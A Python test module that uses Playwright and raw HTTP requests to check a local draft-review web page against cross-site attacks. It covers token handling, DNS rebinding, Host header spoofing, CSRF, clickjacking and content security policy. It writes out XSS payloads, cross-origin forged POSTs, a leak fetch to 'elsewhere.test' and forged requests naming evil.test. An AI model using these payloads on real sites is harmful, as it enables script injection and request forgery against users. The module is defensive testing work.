"""Each attack that a page on the web, or on another port of this machine, can try on the review page."""

from __future__ import annotations

import webbrowser
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace
from playwright.sync_api import Page

from digest.cli.browsing import opened
from digest.model import Entry, Section
from tests.browser import Review, raw, review, saved, site
from tests.test_draft import SHOP

EVIL = '<img src=x onerror="fetch(`/act`)"> <script>document.title="owned"</script> [x](javascript:alert(1))'


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Review]:
    """A review that is up."""
    with review(tmp_path, SHOP) as up:
        yield up


@pytest.fixture
def inside(shop: Review, tab: Page) -> Page:
    """A tab in which the review is open."""
    tab.goto(shop.served.address)
    return tab


def ask(page: Page, script: str, *given: object) -> Any:
    """What a script of the page that is open gets to see; the name of the error where it gets none."""
    return page.evaluate(f"async (given) => {{ try {{ {script} }} catch (error) {{ return error.name; }} }}", [*given])


def status(review: Review, request: str) -> str:
    """The first line of the answer to a request as bytes."""
    return raw(review.served.port, request).partition("\r\n")[0]


@pytest.mark.parametrize("query", ["", "?token=", "?token=wrong", "?token=%FF"])
def test_without_the_right_token_nobody_comes_in(shop: Review, tab: Page, query: str) -> None:
    """No token, or a wrong one: 403, and not a word of the draft."""
    answer = tab.goto(f"http://127.0.0.1:{shop.served.port}/{query}")

    assert answer
    assert (403, False) == (answer.status, "Redis" in tab.content())


def test_the_address_lets_one_browser_in(shop: Review, tab: Page) -> None:
    """Who reads the address later (a process list, a log) comes too late; the browser that is in may use it again."""
    tab.goto(shop.served.address)
    again = tab.goto(shop.served.address)
    browser = tab.context.browser
    assert browser
    other = browser.new_context()
    late = other.new_page().goto(shop.served.address)
    other.close()

    assert again
    assert late
    assert (200, 403) == (again.status, late.status)


def test_the_token_leaves_the_address_at_once(shop: Review, inside: Page) -> None:
    """Neither the address bar nor the history shows it."""
    assert (f"http://127.0.0.1:{shop.served.port}/", 2) == (inside.url, ask(inside, "return history.length"))


def test_no_command_holds_the_token(shop: Review, tab: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    """The browser is told the way in by a file that only its owner can read: a process list shows no secret."""
    commands: list[str] = []
    monkeypatch.setattr(webbrowser, "open", commands.append)
    with opened(shop.served.address) as door:
        modes = [oct(path.stat().st_mode & 0o777) for path in (door, door.parent)]
        tab.goto(door.as_uri())
        tab.get_by_label("Headline").wait_for()

    assert ([door.as_uri()], ["0o600", "0o700"], False, f"http://127.0.0.1:{shop.served.port}/") == (
        commands,
        modes,
        door.exists(),
        tab.url,
    )


def test_a_link_of_another_page_needs_the_token_too(shop: Review, tab: Page) -> None:
    """Who is led here by another page without the right token gets nothing, and the token stays good."""
    with site(f'<a href="http://127.0.0.1:{shop.served.port}/?token=guessed">in</a>') as port:
        tab.goto(f"http://evil.test:{port}/")
        with tab.expect_navigation() as went:
            tab.get_by_role("link").click()
    right = tab.goto(shop.served.address)

    assert right
    assert (403, 200) == (went.value.status, right.status)


def test_scripts_cannot_read_the_cookie(shop: Review, inside: Page) -> None:
    """It is HttpOnly, SameSite=Strict, and named after the port."""
    (cookie,) = inside.context.cookies()

    assert (f"digest-{shop.served.port}", True, "Strict", "") == (
        cookie["name"],
        cookie["httpOnly"],
        cookie["sameSite"],
        ask(inside, "return document.cookie"),
    )


def test_a_name_that_leads_here_is_refused(shop: Review, tab: Page) -> None:
    """DNS rebinding: another name for 127.0.0.1, even with the right token, gets nothing, and the token stays good."""
    rebound = tab.goto(shop.served.address.replace("127.0.0.1", "rebind.test"))
    right = tab.goto(shop.served.address)

    assert rebound
    assert right
    assert (403, 200) == (rebound.status, right.status)


def test_only_the_exact_host_is_answered(shop: Review) -> None:
    """One Host, with the port, or nothing; the form of an address that proxies use counts as one more."""
    query = shop.served.address.partition("?")[2]
    here = f"127.0.0.1:{shop.served.port}"
    wrong = [
        "Host: evil.test",
        "Host: 127.0.0.1",
        "Host: 127.0.0.1:1",
        f"Host: {here}\nHost: evil.test",
        f"Host: evil.test\nHost: {here}",
        f"Host: {here}\nHost: {here}",
        f"Host: {here}.evil.test",
        "X: y",
    ]
    requests = [f"GET /?{query} HTTP/1.1\n{hosts}\nConnection: close\n\n" for hosts in wrong]
    requests.append(f"GET http://evil.test/?{query} HTTP/1.1\nHost: {here}\nConnection: close\n\n")

    assert ["403"] * 9 == [status(shop, request).split()[1] for request in requests]


OTHERS = ["127.0.0.1", "localhost", "evil.test"]
"""Another port here (the cookie counts as of the same site and is sent), another name for here, another site."""


@pytest.mark.parametrize("host", OTHERS)
def test_another_page_reads_nothing(shop: Review, inside: Page, host: str) -> None:
    """A fetch with cookies from a page of another origin does not show it the draft."""
    target = f"http://127.0.0.1:{shop.served.port}"
    with site("<h1>other</h1>") as port:
        other = inside.context.new_page()
        other.goto(f"http://{host}:{port}/")
        seen = [
            ask(other, "return await (await fetch(given[0], {credentials: 'include'})).text();", f"{target}{path}")
            for path in ("/", "/view", "/seen")
        ]

    assert ["TypeError"] * 3 == seen


@pytest.mark.parametrize("host", OTHERS)
def test_another_page_changes_nothing(shop: Review, inside: Page, host: str) -> None:
    """Neither a fetch of any kind nor a form nor a beacon of another page reaches the file."""
    before = shop.text
    act = f"http://127.0.0.1:{shop.served.port}/act"
    send = """
    const body = JSON.stringify({seen: "", acts: [{do: "drop", at: 14}]});
    for (const type of ["application/json", "text/plain"]) {
      for (const mode of ["cors", "no-cors"]) {
        try { await fetch(given[0], {method: "POST", mode, credentials: "include", headers: {"Content-Type": type}, body}); } catch {}
      }
    }
    navigator.sendBeacon(given[0], body);
    const form = Object.assign(document.createElement("form"), {method: "POST", action: given[0], enctype: "text/plain"});
    const field = Object.assign(document.createElement("input"), {name: body, value: "x"});
    form.append(field); document.body.append(form); form.submit();
    return "tried";
    """
    with site("<h1>other</h1>") as port:
        other = inside.context.new_page()
        other.goto(f"http://{host}:{port}/")
        with other.expect_navigation() as went:
            tried = ask(other, send, act)

    assert ("tried", 403, before) == (tried, went.value.status, shop.text)


@pytest.mark.parametrize("host", OTHERS)
def test_another_page_cannot_frame_it(shop: Review, inside: Page, host: str) -> None:
    """In a frame of another page (clickjacking), neither the page nor a preview is shown."""
    mail = inside.locator("#mail").get_attribute("src") or "/"
    target = f"http://127.0.0.1:{shop.served.port}"
    frames = "".join(f'<iframe src="{target}{path}"></iframe>' for path in ("/", mail, "/?token=guessed"))
    with site(frames) as port:
        other = inside.context.new_page()
        other.goto(f"http://{host}:{port}/")
        other.wait_for_load_state("networkidle")
        shown = [frame.content() for frame in other.frames[1:]]

    assert [False] * 3 == [any(x in html for x in ("Redis", "<textarea", "Go on")) for html in shown]


@pytest.mark.parametrize("host", OTHERS)
def test_another_page_cannot_load_it_as_a_script(shop: Review, inside: Page, host: str) -> None:
    """A script, style or image element of another page gets an error, and no handle of a window that it opens."""
    target = f"http://127.0.0.1:{shop.served.port}/view"
    load = """
    const load = (tag, name) => new Promise((done) => {
      const made = document.createElement(tag); made.onload = () => done("loaded"); made.onerror = () => done("error");
      made.rel = "stylesheet"; made[name] = given[0]; document.head.append(made);
    });
    return [await load("script", "src"), await load("link", "href"), await load("img", "src")];
    """
    with site("<h1>other</h1>") as port:
        other = inside.context.new_page()
        other.goto(f"http://{host}:{port}/")

        assert ["error"] * 3 == ask(other, load, target)


def test_words_of_strangers_stay_words(tmp_path: Path, tab: Page) -> None:
    """Markup in a line, in what was left out, in notes and evidence is shown as text; nothing of it runs or loads."""
    progress = Section(name="progress", entries=(Entry(text=EVIL, refs=("github:acme/shop#1",)),))
    left = tuple(replace(out, text=EVIL, why=EVIL) for out in SHOP.left_out)
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.on("dialog", lambda _: asked.append("dialog"))
    with review(tmp_path, replace(SHOP, sections=(progress,), left_out=left, notes=(EVIL,), headline=EVIL)) as up:
        tab.goto(up.served.address)
        tab.frame_locator("#mail").locator("li").first.wait_for()
        here = f"http://127.0.0.1:{up.served.port}/"
        mail = tab.frame_locator("#mail").locator("body").inner_text()

        assert ([], "img src=x" in mail, False, 0) == (
            [url for url in asked if not url.startswith(here)],
            True,
            tab.title() == "owned",
            tab.locator("main img, aside img, #mail-stage img").count(),
        )


def test_a_script_that_got_into_the_page_does_not_run(inside: Page) -> None:
    """The policy lets only the page's own script run, and no text become markup."""
    tried = ask(
        inside,
        """
        const found = [];
        const script = document.createElement("script");
        try { script.text = "window.owned = 1"; document.body.append(script); } catch (error) { found.push(error.name); }
        try { document.body.innerHTML = "<b>x</b>"; } catch (error) { found.push(error.name); }
        try { document.body.setAttribute("onclick", "window.owned = 1"); document.body.click(); } catch (error) { found.push(error.name); }
        try { await fetch("https://elsewhere.test/?leak"); } catch (error) { found.push(error.name); }
        return [...found, window.owned ?? "not run"];
        """,
    )

    assert ["TypeError"] * 4 + ["not run"] == tried


def test_the_preview_is_shut_in(inside: Page) -> None:
    """The frame of the mail runs no script and is of no origin, so that it could not reach the page."""
    inside.frame_locator("#mail").locator("h1").wait_for()
    frame = inside.frames[-1]

    assert ("", "null", True) == (
        inside.locator("#mail").get_attribute("sandbox"),
        frame.evaluate("origin"),
        "TypeError" == inside.evaluate("() => document.querySelector('#mail').contentDocument ?? 'TypeError'"),
    )


@pytest.mark.parametrize(
    ("change", "reason"),
    [
        ({"X-CSRF-Token": "wrong"}, "of an earlier run"),
        ({"X-CSRF-Token": None}, "of an earlier run"),
        ({"Content-Type": "text/plain"}, "only JSON"),
        ({"Content-Type": "application/x-www-form-urlencoded"}, "only JSON"),
    ],
)
def test_a_request_to_write_needs_all_of_its_marks(inside: Page, change: dict[str, str | None], reason: str) -> None:
    """Also from the page itself, a request without the header or of another kind is refused."""
    said = ask(
        inside,
        """
        const headers = {"Content-Type": "application/json", "X-CSRF-Token": csrf, ...given[0]};
        for (const name of Object.keys(headers)) if (headers[name] === null) delete headers[name];
        const answer = await fetch("/act", {method: "POST", headers, body: JSON.stringify({seen: view.seen})});
        return [answer.status, await answer.text()];
        """,
        change,
    )

    assert (403, True) == (said[0], reason in said[1])


def write_request(inside: Page, shop: Review, *, body: str = "{}", length: str | None = None, **change: str) -> str:
    """A whole and right request to write, but for what is changed, as bytes."""
    (cookie,) = inside.context.cookies()
    here = f"127.0.0.1:{shop.served.port}"
    headers = {
        "Host": here,
        "Origin": f"http://{here}",
        "Cookie": f"{cookie['name']}={cookie['value']}",
        "X-CSRF-Token": str(ask(inside, "return csrf;")),
        "Content-Type": "application/json",
        "Content-Length": length or str(len(body)),
        "Connection": "close",
        **{name.replace("_", "-"): value for name, value in change.items()},
    }
    lines = "\n".join(f"{name}: {value}" for name, value in headers.items() if value)
    return status(shop, f"POST /act HTTP/1.1\n{lines}\n\n{body}")


def test_each_rule_stands_alone(inside: Page, shop: Review) -> None:
    """With all else right (the first case is read as far as its JSON), one wrong mark is enough to be refused."""
    changes: list[dict[str, str]] = [
        {},
        {"Origin": ""},
        {"Origin": "null"},
        {"Origin": "http://evil.test"},
        {"Cookie": "x=y"},
        {"Sec_Fetch_Site": "cross-site"},
        {"Sec_Fetch_Site": "same-site"},
        {"length": str(2**30)},
        {"Content_Length": "", "Transfer_Encoding": "chunked"},
    ]

    assert ["422", *["403"] * 8] == [write_request(inside, shop, **change).split()[1] for change in changes]


def test_only_two_methods_are_known(inside: Page, shop: Review) -> None:
    """What the page does not use is refused, with the cookie and all."""
    (cookie,) = inside.context.cookies()
    marks = f"Host: 127.0.0.1:{shop.served.port}\nCookie: {cookie['name']}={cookie['value']}\nConnection: close"
    methods = ["PUT", "DELETE", "OPTIONS", "HEAD", "TRACE", "PATCH", "GET"]

    assert [*["403"] * 6, "200"] == [status(shop, f"{m} / HTTP/1.1\n{marks}\n\n").split()[1] for m in methods]


def test_every_answer_carries_the_rules(inside: Page, shop: Review) -> None:
    """A page, an answer and a refusal say the same to the browser: store nothing, frame nothing, tell nobody."""
    wanted = {
        "cache-control": "no-store",
        "referrer-policy": "no-referrer",
        "x-content-type-options": "nosniff",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
    }
    said = []
    for path in ("/", "/view", "/seen", "/nothing", "/?token=wrong"):
        headers = inside.request.get(f"http://127.0.0.1:{shop.served.port}{path}").headers
        policy = headers["content-security-policy"]
        strict = policy.startswith("default-src 'none';") and "frame-ancestors 'none'" in policy
        said.append(({name: headers.get(name) for name in wanted}, strict))

    assert [(wanted, True)] * 5 == said


def test_nothing_on_the_page_can_send(shop: Review) -> None:
    """The program answers to these addresses and to no others; none of them delivers anything."""
    from digest import web
    from digest.web.app import Room, make_app
    from digest.web.gate import Gate

    desk = web.Desk(file=shop.file, gather=lambda _: web.Facts(), preview=lambda _: ("", ""))
    app = make_app(Room(desk=desk, gate=Gate(port=1), leave=lambda: None))
    known = {"/", "/seen", "/view", "/mail/<name>/<scheme>", "/act", "/undo", "/redraft", "/preview", "/leave"}

    assert known == {rule.rule for rule in app.url_map.iter_rules()}


def test_the_page_loads_from_nowhere_else(shop: Review, tab: Page) -> None:
    """All that the page needs comes from the program."""
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    tab.goto(shop.served.address)
    tab.get_by_role("button", name="Dark").click()
    tab.get_by_role("button", name="Undo").is_disabled()
    tab.locator("#add-next").fill("More.")
    tab.locator("#add-next").press("Enter")
    saved(tab, "Added")

    assert [] == [url for url in asked if not url.startswith(f"http://127.0.0.1:{shop.served.port}/")]


def test_addresses_are_not_logged(shop: Review, inside: Page, capfd: pytest.CaptureFixture[str]) -> None:
    """Neither an answer nor a broken request writes the token, or anything, to the terminal."""
    inside.reload()
    raw(shop.served.port, f"GARBAGE {shop.served.address}\n\n")

    assert ("", "") == tuple(capfd.readouterr())
